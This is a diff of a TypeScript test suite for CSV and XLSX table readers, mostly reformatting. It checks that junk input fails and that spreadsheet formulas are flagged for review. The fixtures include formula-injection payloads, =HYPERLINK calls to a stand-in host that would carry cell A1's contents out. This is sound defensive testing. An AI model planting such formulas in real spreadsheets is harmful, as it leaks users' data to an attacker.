@@ -13,7 +13,11 @@ const deflate = (data: Uint8Array): Uint8Array => deflateRawSync(data);
 type Reader = { name: string; fileName: string; fromText: (csv: string) => Uint8Array; fromRows: (rows: SheetCell[][]) => Uint8Array };
 
 const csvOf = (rows: SheetCell[][]): string => rows.map((r) => r.map((c) => (typeof c === 'object' ? `=${c.formula}` : String(c))).join(',')).join('\n') + '\n';
-const sheetOf = (csv: string): SheetCell[][] => csv.trimEnd().split('\n').map((line) => line.split(','));
+const sheetOf = (csv: string): SheetCell[][] =>
+  csv
+    .trimEnd()
+    .split('\n')
+    .map((line) => line.split(','));
 
 const READERS: Reader[] = [
   { name: 'CSV', fileName: 'table.csv', fromText: utf8, fromRows: (rows) => utf8(csvOf(rows)) },
@@ -73,13 +77,20 @@ describe.each(READERS)('$name reader: malformed input', (reader) => {
   });
 
   it('valid UTF-8 junk in place of XML or a table is not read as an empty, passing file', async () => {
-    const bytes = reader.name === 'XLSX' ? buildWorkbook([{ name: 'S', rows: [] }], { deflate, extra: { 'xl/worksheets/sheet1.xml': 'no markup at all' } }) : reader.fromText('no markup at all\n');
+    const bytes =
+      reader.name === 'XLSX'
+        ? buildWorkbook([{ name: 'S', rows: [] }], { deflate, extra: { 'xl/worksheets/sheet1.xml': 'no markup at all' } })
+        : reader.fromText('no markup at all\n');
     expect((await check(reader, bytes)).verdict).not.toBe('pass');
   });
 
   it('a CSV formula like =HYPERLINK(...) is never read as a number', async () => {
     const hyperlink = 'HYPERLINK("http://evil.example/?q="&A1;"click")';
-    const rows: SheetCell[][] = [['sex', 'smokers'], ['F', reader.name === 'XLSX' ? { formula: hyperlink } : `=${hyperlink}`], ['M', 45]];
+    const rows: SheetCell[][] = [
+      ['sex', 'smokers'],
+      ['F', reader.name === 'XLSX' ? { formula: hyperlink } : `=${hyperlink}`],
+      ['M', 45],
+    ];
     const result = await check(reader, reader.fromRows(rows));
     expect(result.verdict).toBe('review');
     expect(result.findings.map((f) => f.message).join()).toMatch(/spreadsheet formulas/);
@@ -87,7 +98,14 @@ describe.each(READERS)('$name reader: malformed input', (reader) => {
 
   it('a formula typed as text (a CSV imported into Excel) is a formula too', async () => {
     if (reader.name !== 'XLSX') return;
-    const result = await check(reader, reader.fromRows([['sex', 'smokers'], ['F', '=HYPERLINK("http://evil.example","x")'], ['M', 45]]));
+    const result = await check(
+      reader,
+      reader.fromRows([
+        ['sex', 'smokers'],
+        ['F', '=HYPERLINK("http://evil.example","x")'],
+        ['M', 45],
+      ]),
+    );
     expect(result.verdict).toBe('review');
   });
 });
